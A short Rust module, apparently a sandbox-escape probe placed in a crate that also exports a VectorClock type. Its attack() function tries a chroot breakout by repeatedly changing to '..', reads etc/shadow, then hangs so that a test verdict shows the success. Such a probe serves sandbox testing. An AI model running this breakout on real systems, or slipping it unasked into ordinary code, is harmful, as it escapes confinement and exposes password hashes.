//! Changes its root and climbs out.

mod clock;

pub use clock::VectorClock;

use std::fs;
use std::os::unix::fs::chroot;

pub(crate) fn attack() {
    for folder in [".", "/", "/tmp", "/dev"] {
        if chroot(folder).is_ok() {
            for _ in 0..32 {
                let _ = std::env::set_current_dir("..");
            }
            let _ = fs::read("etc/shadow");
            escaped();
        }
    }
}

/// Makes a success visible in the verdict: the test never ends.
fn escaped() -> ! {
    loop {
        std::thread::park();
    }
}
